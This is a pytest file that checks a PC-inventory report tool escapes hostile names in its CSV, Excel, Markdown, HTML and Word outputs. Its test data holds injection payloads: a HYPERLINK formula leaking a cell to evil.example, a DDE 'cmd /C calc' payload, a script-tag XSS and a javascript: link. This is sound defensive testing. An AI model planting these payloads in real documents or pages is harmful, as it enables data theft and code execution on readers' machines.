"""Hostile names (owners, units, and computer names the PCs report themselves) in every format.

Spreadsheets: no cell is a formula or an error value, and a text that starts like a formula is shown
with a leading quote (OWASP). Markdown and HTML: markup stays text. Everything is asserted on the
parsed outputs.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from agentroll.reports import render
from agentroll.reports.tables import FORMULA_TRIGGERS

FIXTURE = Path(__file__).parent / "fixtures" / "report_sample.json"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "<script>alert(1)</script>",
    "a | b",
    "+cmd|' /C calc'!A0",
    "=2+5",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "[click](javascript:alert(1))",
    # Not a formula, but a spreadsheet's error value when stored as one.
    "#N/A",
)
LANGUAGES = ("en", "vi")


@pytest.fixture(scope="module")
def hostile_report() -> dict[str, Any]:
    """The sample report with the hostile texts as unit names (the first four), and as the owner and
    computer name of every PC (in turn)."""
    report = json.loads(FIXTURE.read_text(encoding="utf-8"))
    for index, host in enumerate(report["hosts"]):
        host["owner"] = HOSTILE[index % len(HOSTILE)]
        host["computer_name"] = HOSTILE[(index + 5) % len(HOSTILE)]
    for unit, text in zip(report["units"], HOSTILE, strict=False):
        unit["name"] = text
    return report


def _quoted(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def _is_number(cell: str) -> bool:
    """A number the report wrote (days left may be negative); a number is no formula."""
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def _words(text: str) -> str:
    """Whitespace as one space: a table cell or a line shows a tab or a line break as a space."""
    return " ".join(text.split())


def _listed(report: dict[str, Any]) -> set[str]:
    """The texts the per-PC problem tables show: units, owners and computer names of the PCs that
    cannot take the agent or cannot be managed, and owners of the PCs waiting for a license."""
    listed = {unit["name"] for unit in report["units"]}
    for host in report["hosts"]:
        if host["state"] in ("ineligible", "unmanageable"):
            listed |= {host["owner"], host["computer_name"]}
        if host.get("license") == "waiting":
            listed.add(host["owner"])
    return listed


@pytest.mark.parametrize("lang", LANGUAGES)
@pytest.mark.parametrize("fmt", ["csv", "units-csv"])
def test_csv_cells_never_start_like_a_formula(hostile_report: dict[str, Any], fmt: str, lang: str) -> None:
    output = render(hostile_report, fmt, lang=lang)
    assert isinstance(output, str)
    rows = list(csv.reader(io.StringIO(output.removeprefix("\ufeff"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS) and not _is_number(cell)]
    shown = HOSTILE if fmt == "csv" else [unit["name"] for unit in hostile_report["units"]]
    # The visible text kept, behind a quote where it starts like a formula.
    assert {_quoted(text) for text in shown} <= set(cells)


@pytest.mark.parametrize("lang", LANGUAGES)
def test_xlsx_has_no_formula_cell(hostile_report: dict[str, Any], lang: str) -> None:
    data = render(hostile_report, "xlsx", lang=lang)
    assert isinstance(data, bytes)
    workbook = load_workbook(io.BytesIO(data))
    cells = [
        cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None
    ]
    assert [cell.coordinate for cell in cells if cell.data_type in ("f", "e")] == []
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert {_quoted(text) for text in HOSTILE} <= texts
    assert not [text for text in texts if str(text).startswith(FORMULA_TRIGGERS)]
    # Nor in the file itself: no formula element in any sheet.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets and not [
            name for name in sheets if b"<f>" in archive.read(name) or b"<f " in archive.read(name)
        ]


def _markdown_as_html(markdown: str) -> str:
    return MarkdownIt("commonmark").enable("table").render(markdown)


@pytest.mark.parametrize("lang", LANGUAGES)
def test_markdown_keeps_hostile_names_as_text(hostile_report: dict[str, Any], lang: str) -> None:
    markdown = render(hostile_report, "md", lang=lang)
    assert isinstance(markdown, str)
    page = _markdown_as_html(markdown)
    assert "<script" not in page
    assert "javascript:" not in re.sub(r"<[^>]+>", "", page) or 'href="javascript' not in page
    assert "<a " not in page
    # Every row of every table has as many cells as its header: a "|" in a name split nothing.
    for table in re.findall(r"<table>.*?</table>", page, re.S):
        header = len(re.findall(r"<th[ >]", table))
        for row in re.findall(r"<tbody>.*?</tbody>", table, re.S)[0].split("</tr>")[:-1]:
            assert len(re.findall(r"<td[ >]", row)) == header
    visible = _words(html.unescape(re.sub(r"<[^>]+>", "", page)))
    listed = _listed(hostile_report)
    assert {"<script>alert(1)</script>", "a | b"} <= listed
    for text in listed:
        assert _words(text) in visible


@pytest.mark.parametrize("lang", LANGUAGES)
@pytest.mark.parametrize("fmt", ["html", "reply-html"])
def test_html_escapes_hostile_names(hostile_report: dict[str, Any], fmt: str, lang: str) -> None:
    page = render(hostile_report, fmt, lang=lang)
    assert isinstance(page, str)
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


@pytest.mark.parametrize("lang", LANGUAGES)
def test_docx_holds_hostile_names_as_plain_text(hostile_report: dict[str, Any], lang: str) -> None:
    data = render(hostile_report, "docx", lang=lang)
    assert isinstance(data, bytes)
    document = Document(io.BytesIO(data))
    cells = {_words(cell.text) for table in document.tables for row in table.rows for cell in row.cells}
    # The owners of the PCs the reply lists come out as written, as text.
    listed = [
        host
        for host in hostile_report["hosts"]
        if host["state"] in ("ineligible", "unmanageable") or host.get("license") == "waiting"
    ]
    assert {_words(host["owner"]) for host in listed} <= cells
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        body = archive.read("word/document.xml")
    assert b"<w:fldSimple" not in body and b"<w:instrText" not in body


@pytest.mark.parametrize("lang", LANGUAGES)
def test_terminal_text_shows_the_names_as_written(hostile_report: dict[str, Any], lang: str) -> None:
    text = render(hostile_report, "text", lang=lang)
    assert isinstance(text, str)
    for unit in hostile_report["units"]:
        assert _words(unit["name"]) in _words(text)
